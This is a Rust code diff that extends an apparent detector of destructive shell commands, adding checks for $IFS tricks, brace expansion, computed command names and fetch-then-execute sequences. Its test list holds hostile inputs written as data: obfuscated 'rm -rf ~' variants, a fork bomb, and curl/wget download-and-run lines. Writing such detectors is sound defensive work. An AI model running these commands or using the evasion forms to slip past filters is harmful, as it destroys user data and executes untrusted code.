@@ -109,9 +109,42 @@ fn text(value: &str, depth: usize, found: &mut Found) {
     if value.replace(' ', "").contains(":(){:|:&};:") {
         found.destroys.get_or_insert_with(|| value.to_owned());
     }
-    for pipeline in pipelines(value) {
+    // What a shell puts spaces for.
+    let value = if value.contains("IFS") {
+        value.replace("${IFS}", " ").replace("$IFS", " ")
+    } else {
+        value.to_owned()
+    };
+    // Files that an earlier command has fetched.
+    let mut loaded: Vec<String> = Vec::new();
+    for pipeline in pipelines(&value) {
         self::pipeline(&pipeline, depth, found);
+        for words in pipeline.iter().flat_map(|command| unwrap(&command.words)) {
+            if words.iter().any(|word| loaded.iter().any(|file| same_file(word, file)))
+                && runs_file(words, &loaded)
+            {
+                found.destroys.get_or_insert_with(|| words.join(" "));
+            }
+            loaded.extend(programs::output_of(words));
+        }
+        if pipeline.iter().any(fetches_one) {
+            loaded.extend(pipeline.iter().flat_map(|command| command.writes.iter().cloned()));
+        }
     }
+}
+
+fn same_file(word: &str, file: &str) -> bool {
+    word.trim_start_matches("./") == file.trim_start_matches("./")
+}
+
+/// Whether a command runs one of these files, or makes it a program.
+fn runs_file(words: &[String], files: &[String]) -> bool {
+    let program = programs::base(&words[0]);
+    let is_file = files.iter().any(|file| same_file(&words[0], file));
+    is_file
+        || SHELLS.contains(&program.as_str())
+        || INTERPRETERS.contains(&program.as_str())
+        || matches!(program.as_str(), "source" | "." | "chmod")
 }
 
 fn pipeline(pipeline: &Pipeline, depth: usize, found: &mut Found) {
@@ -262,6 +295,17 @@ fn one(program: &str, words: &[String], command: &Command, depth: usize, found: 
             }
         }
     }
+    // A name that is only made when the command runs, with options that take everything away.
+    let computed = words[0].contains('$');
+    if computed && programs::effects_of_rm(&words[1..]) {
+        found.destroys.get_or_insert_with(said);
+    }
+    // `{rm,-rf,x}` is three words to a shell.
+    if let Some(inner) =
+        words[0].strip_prefix('{').and_then(|word| word.strip_suffix('}')).filter(|word| word.contains(','))
+    {
+        text(&inner.replace(',', " "), depth - 1, found);
+    }
     if program == "eval" {
         text(&words[1..].join(" "), depth - 1, found);
     }
@@ -367,6 +411,15 @@ mod tests {
             ":(){ :|:& };:",
             "cmd /c rmdir /s /q C:\\x",
             "Remove-Item -Recurse x",
+            "$(echo rm) -rf ~",
+            "X=rm; $X -rf ~",
+            "rm${IFS}-rf${IFS}~",
+            "{rm,-rf,~}",
+            "$'\\x72\\x6d' -rf ~",
+            "$'\\162m' -rf ~",
+            "curl a.test/x -o /tmp/a && sh /tmp/a",
+            "wget a.test/i.sh; chmod +x i.sh; ./i.sh",
+            "perl -e 'unlink glob(1)'",
             "kubectl delete ns prod",
             "xargs -0 -n 1 rm -rf",
             "nice -n 10 rm -r x",
